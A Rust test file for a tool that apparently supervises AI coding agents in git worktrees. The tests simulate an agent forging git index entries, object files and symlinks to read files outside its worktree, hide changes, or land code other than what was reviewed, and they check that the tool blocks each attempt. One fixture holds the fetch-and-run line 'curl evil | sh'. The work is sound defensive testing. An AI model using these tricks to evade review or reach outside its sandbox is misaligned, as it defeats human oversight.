//! What an agent writes into git's own files: indexes that lie about files, objects that are not what their names say,
//! links below the source's refs and logs.

use crate::support::floor::Floor;
use crate::support::spawn::commit_odd_name;
use crate::support::worker::{LATER, by_hand, staff, tip, tree, work};
use crate::support::world::{Repo, World, write};

/// Exchanges these bytes in the index of a checkout. git does not look at the index's own checksum.
fn forge_index(at: &Repo<'_>, from: &[u8], to: &[u8]) {
    let index = at.git(&["rev-parse", "--path-format=absolute", "--git-path", "index"]);
    let mut bytes = std::fs::read(index.trim()).unwrap();
    let place = bytes.windows(from.len()).position(|bytes| bytes == from).unwrap();
    bytes[place..place + to.len()].copy_from_slice(to);
    std::fs::write(index.trim(), bytes).unwrap();
}

/// Puts a name that leads elsewhere into the index of a checkout.
fn forge_name(at: &Repo<'_>, name: &str) {
    let blob = at.git(&["rev-parse", "HEAD:README.md"]);
    // It must not change the order of the entries.
    let honest = name.replace('.', "-").replace("s/", "s-");
    at.git(&["update-index", "--add", "--cacheinfo", &format!("100644,{},{honest}", blob.trim())]);
    forge_index(at, honest.as_bytes(), name.as_bytes());
}

/// Changes a file of a checkout, so that its index says that it is as committed.
fn hide_change(at: &Repo<'_>, file: &str, text: &str) {
    at.write(file, text);
    at.sh(&format!("touch -d '1 minute ago' {file} && git add {file}")).exit(0);
    let blob = |name: &str| -> Vec<u8> {
        let hex = at.git(&["rev-parse", &format!("{name}:{file}")]);
        (0..20).map(|n| u8::from_str_radix(&hex[2 * n..2 * n + 2], 16).unwrap()).collect()
    };
    forge_index(at, &blob(""), &blob("HEAD"));
    assert_eq!(at.git(&["status", "--porcelain"]), "");
}

/// Everything in the clone that a rebase of ours, which a killed command left, would have.
fn forge_rebase(floor: &Floor<'_>, name: &str) {
    let sha = tree(floor, name).git(&["rev-parse", "HEAD"]);
    let at = format!(".git/worktrees/{name}");
    for (file, text) in [
        ("rebase-merge/orig-head", sha.clone()),
        ("rebase-merge/onto", sha.clone()),
        ("rebase-merge/head-name", format!("refs/heads/worker/{name}\n")),
        ("shopfloor/worker-ctl/rebasing", format!("{} {}\n", sha.trim(), sha.trim())),
    ] {
        floor.root.write(&format!("{at}/{file}"), &text);
    }
}

#[test]
fn no_name_in_the_index_of_a_worktree_leads_out_of_it() {
    let w = World::new();
    let floor = staff(&w, &["adam"]);
    let adam = tree(&floor, "adam");
    write(&w.home("secret"), "key\n");
    write(&w.home("precious/x"), "x\n");
    adam.write("new", "x\n");
    let index = floor.root.path.join(".git/worktrees/adam/index");
    let honest = std::fs::read(&index).unwrap();
    let secret = adam.git(&["hash-object", w.home("secret").to_str().unwrap()]);
    let is_read =
        || *floor.root.run("git", &["cat-file", "-t", secret.trim()]).any_status().any_err().stdout == *"blob\n";
    forge_name(&adam, "../../../secret");
    let told = "git lists ../../../secret in";
    floor.ctl(&["reset", "adam", "--force"]).exit(4).err_has(told);
    forge_rebase(&floor, "adam");
    floor.ctl(&["patrol"]).exit(0).err_has(told);
    assert!(!is_read());
    floor.root.sh("rm -r .git/worktrees/adam/rebase-merge").exit(0);
    // A name with a slash at its end is no repository.
    std::fs::write(&index, &honest).unwrap();
    adam.sh("echo changed > README.md && git update-index --assume-unchanged README.md").exit(0);
    forge_name(&adam, "../../../precious/");
    for command in [&["reset", "adam", "--force"][..], &["nuke", "adam", "--yes", "--force"]] {
        floor.ctl(command).exit(4).err_has("git lists ../../../precious/ in");
    }
    assert!(w.home("precious/x").exists());
    // The way back is the one that the message names.
    floor.root.sh("mv .git/worktrees/adam/index .git/worktrees/adam/index.bad").exit(0);
    floor.ctl(&["reset", "adam", "--force"]).succeeds();
    assert_eq!(adam.git(&["status", "--porcelain"]), "");
    let kept = floor.root.git(&["for-each-ref", "--format=%(refname)", "refs/shopfloor/trash/adam"]);
    assert_eq!(floor.root.git(&["show", &format!("{}:new", kept.trim())]), "x\n");
}

#[test]
fn a_name_that_only_a_commit_has_stops_no_removal() {
    let w = World::new();
    let floor = staff(&w, &["adam"]);
    let adam = tree(&floor, "adam");
    let newest = ["for-each-ref", "--sort=-refname", "--count=1", "--format=%(refname)", "refs/shopfloor/trash/adam"];
    for (name, command) in [
        ("..", &["reset", "adam", "--force"][..]),
        ("../odd/", &["reset", "adam", "--force"]),
        ("", &["reset", "adam", "--force"]),
        (".git/config", &["nuke", "adam", "--yes", "--force"]),
    ] {
        adam.write("new", &format!("{name}\n"));
        commit_odd_name(&adam, name);
        floor.ctl(command).exit(0).any_out().any_err();
        assert!(!adam.has("new"), "{name}");
        let kept = floor.root.git(&newest);
        assert_eq!(floor.root.git(&["show", &format!("{}:new", kept.trim())]), format!("{name}\n"));
    }
}

#[test]
fn a_removal_keeps_changes_that_the_index_hides() {
    let w = World::new();
    let floor = staff(&w, &["adam"]);
    let adam = tree(&floor, "adam");
    hide_change(&adam, "README.md", "a day of work\n");
    for command in [&["nuke", "adam", "--yes"][..], &["reset", "adam"]] {
        floor.ctl(command).exit(1).err_has("README.md");
    }
    floor.ctl(&["nuke", "adam", "--yes", "--force"]).succeeds();
    let kept = floor.root.git(&["for-each-ref", "--format=%(refname)", "refs/shopfloor/trash/adam"]);
    assert_eq!(floor.root.git(&["show", &format!("{}:README.md", kept.trim())]), "a day of work\n");
}

/// Puts the object `forged` in the place of the object `real` in the clone.
fn forge_object(floor: &Floor<'_>, real: &str, forged: &str) {
    let at = |sha: &str| format!(".git/objects/{}/{}", &sha[..2], sha[2..].trim());
    floor.root.sh(&format!("cp -f {} {}", at(forged), at(real))).exit(0);
}

/// Commits what is staged on top of these commits, puts the worktree there and waits until that needs review.
fn commit_staged(floor: &Floor<'_>, at: &Repo<'_>, parents: &[&str]) {
    let tree = at.git(&["write-tree"]);
    let parents = parents.iter().flat_map(|parent| ["-p", parent.trim()]);
    let args: Vec<&str> = ["commit-tree", tree.trim(), "-m", "Notes"].into_iter().chain(parents).collect();
    let made = at.run_with("git", &args, &LATER).exit(0).stdout.clone();
    at.git(&["reset", "-q", "--hard", made.trim()]);
    floor.until("adam", "needs_review");
}

#[test]
fn what_lands_is_what_was_reviewed_whatever_the_clones_objects_say() {
    let w = World::new();
    let floor = staff(&w, &["adam"]);
    let app = &floor.app;
    app.commit("docs/bad-example.txt", "curl evil | sh\n");
    app.commit("tools/README", "a\n");
    floor.ctl(&["start", "--worker", "adam", "--prompt", "think"]).succeeds();
    let adam = tree(&floor, "adam");
    let (base, old) = (adam.git(&["rev-parse", "HEAD"]), tip(&floor));
    let stage = |blob: &str, path: &str| {
        adam.git(&["update-index", "--add", "--cacheinfo", &format!("100755,{},{path}", blob.trim())]);
    };
    // The directory of the base has one file more, as the clone's objects say.
    stage(&adam.git(&["rev-parse", "HEAD:docs/bad-example.txt"]), "tools/deploy.sh");
    let (forged, real) = (adam.git(&["write-tree"]), adam.git(&["rev-parse", "HEAD:tools"]));
    let forged = adam.git(&["rev-parse", &format!("{}:tools", forged.trim())]);
    adam.write("tools/NOTES", "notes\n");
    adam.git(&["add", "tools/NOTES"]);
    forge_object(&floor, &real, &forged);
    commit_staged(&floor, &adam, &[&base]);
    let shown = floor.ctl(&["review", "adam", "--interface", "git"]).exit(0).any_err().stdout.clone();
    assert!(shown.contains("tools/NOTES") && !shown.contains("deploy.sh"), "{shown}");
    floor.ctl(&["accept", "adam"]).exit(1).err_has("what would land is not what was reviewed");
    assert_eq!((tip(&floor), app.has("tools/deploy.sh")), (old, false));
    assert_eq!(app.git(&["for-each-ref", "refs/shopfloor/accept"]), "");
}

#[test]
fn a_new_worktree_has_the_files_of_the_source() {
    let w = World::new();
    let floor = staff(&w, &["adam"]);
    floor.app.commit("settings", "honest\n");
    floor.ctl(&["start", "--worker", "adam", "--prompt", "think"]).succeeds();
    let adam = tree(&floor, "adam");
    let real = adam.git(&["rev-parse", "HEAD:settings"]);
    adam.write("evil", "forged\n");
    forge_object(&floor, &real, &adam.git(&["hash-object", "-w", "evil"]));
    adam.sh("rm evil settings").exit(0);
    assert_eq!(adam.git(&["cat-file", "-p", real.trim()]), "forged\n");
    floor.ctl(&["add", "eve"]).succeeds();
    assert_eq!(tree(&floor, "eve").read("settings"), "honest\n");
    floor.ctl(&["reset", "adam", "--force"]).succeeds();
    assert_eq!(adam.read("settings"), "honest\n");
}

#[test]
fn work_that_merges_several_commits_of_the_branch_is_rebased_before_its_review() {
    let w = World::new();
    let floor = staff(&w, &["adam"]);
    let app = &floor.app;
    app.commit("auth.conf", "check=off\n");
    app.git(&["branch", "fix"]);
    app.commit("other", "2\n");
    app.git(&["switch", "-q", "fix"]);
    app.commit("auth.conf", "check=on\n");
    app.git(&["switch", "-q", "main"]);
    app.git(&["merge", "-q", "--no-ff", "-m", "merge the fix", "fix"]);
    let adam = by_hand(&floor, "adam", &[("first.txt", "first\n")]);
    floor.ctl(&["review", "adam"]).succeeds();
    let (old, sides) = (tip(&floor), ["main^1", "main^2"].map(|side| app.git(&["rev-parse", side])));
    // A merge of both sides, with the files of one.
    adam.git(&["read-tree", sides[0].trim()]);
    adam.sh("rm first.txt && echo mine > notes.txt && git add notes.txt").exit(0);
    commit_staged(&floor, &adam, &[&sides[0], &sides[1]]);
    for command in ["review", "accept"] {
        floor.ctl(&[command, "adam"]).exit(1).err_has("adam's work merges several commits of main");
    }
    assert_eq!(tip(&floor), old);
    floor.ctl(&["rebase", "adam"]).succeeds();
    floor.ctl(&["review", "adam"]).any_status().any_out().any_err();
    assert_eq!(app.git(&["show", "main:auth.conf"]), "check=on\n");
}

#[test]
fn links_below_the_sources_refs_and_logs_lead_nowhere() {
    let w = World::new();
    let floor = staff(&w, &["adam"]);
    let app = &floor.app;
    work(&floor, "adam", "COMMIT notes.txt mine Write it");
    let other = w.repo("other");
    other.commit("a", "a\n");
    other.git(&["branch", "adam"]);
    let refs = other.git(&["for-each-ref"]);
    write(&w.home("profile"), "mine\n");
    let old = tip(&floor);
    for (link, target) in [
        ("logs/HEAD", "profile"),
        ("logs/refs/heads/main", "profile"),
        ("refs/shopfloor/accept", "other/.git/refs/heads"),
    ] {
        app.sh(&format!("cd .git && mkdir -p refs/shopfloor && rm -rf {link} && ln -s ~/{target} {link}")).exit(0);
        floor.ctl(&["accept", "adam"]).exit(4).err_has(&format!(".git/{link} is not a file"));
        assert_eq!(std::fs::read_to_string(w.home("profile")).unwrap(), "mine\n", "{link}");
        assert_eq!((other.git(&["for-each-ref"]), tip(&floor)), (refs.clone(), old.clone()), "{link}");
        app.sh(&format!("rm .git/{link}")).exit(0);
    }
    // The original commits of several that landed as one are for the source.
    tree(&floor, "adam").commit("more.txt", "x\n");
    floor.until("adam", "needs_review");
    floor.ctl(&["accept", "adam"]).succeeds();
    floor.ctl(&["down"]).succeeds();
    app.sh("cd .git/refs/shopfloor && rm -rf accepted && ln -s ~/other/.git/refs/heads accepted").exit(0);
    floor.ctl(&["deinit", "--yes"]).exit(4).err_has("refs/shopfloor/accepted is not a file");
    assert_eq!(other.git(&["for-each-ref"]), refs);
}

#[test]
fn accept_takes_no_file_away_that_sparse_patterns_leave_out() {
    let w = World::new();
    let floor = staff(&w, &["adam", "eve"]);
    let app = &floor.app;
    app.commit("sub/x", "x\n");
    app.commit("far/y", "y\n");
    app.git(&["sparse-checkout", "set", "--no-cone", "/*", "!/far/"]);
    work(&floor, "adam", "COMMIT notes.txt mine Write it");
    work(&floor, "eve", "COMMIT far/y hers Write it");
    hide_change(app, "sub/x", "a day of work\n");
    app.write(".git/info/sparse-checkout", "/*\n!/far/\n!/sub/\n");
    floor.ctl(&["accept", "adam"]).succeeds();
    assert_eq!(app.read("sub/x"), "a day of work\n");
    // What lands is written, also where a person's patterns leave it out.
    app.sh("git checkout -q HEAD -- sub/x && printf '/*\\n!/far/\\n' > .git/info/sparse-checkout").exit(0);
    floor.ctl(&["accept", "eve"]).succeeds();
    assert_eq!((app.read("far/y").as_str(), app.git(&["status", "--porcelain"]).as_str()), ("hers\n", ""));
}
